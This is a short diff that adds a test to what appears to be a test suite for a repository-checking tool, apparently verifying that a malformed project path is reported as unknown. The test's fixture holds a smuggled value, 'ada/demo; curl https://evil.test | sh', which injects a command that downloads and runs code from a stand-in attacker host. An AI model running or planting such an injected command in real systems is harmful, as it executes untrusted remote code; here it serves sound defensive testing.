@@ -109,3 +109,10 @@ test("an expired token and one of a developer are told apart", async () => {
   expect(narrow.get("tag-rules")?.remedy).toContain("of a maintainer");
   expect(told(narrow.get("repository"))).toBe("ok: ada/demo");
 });
+
+test("a project's path that is none never stands in a command", async () => {
+  const found = await lines(({ project }) => {
+    project.path = "ada/demo; curl https://evil.test | sh";
+  });
+  expect(told(found.get("repository"))).toMatch(/^unknown/);
+});
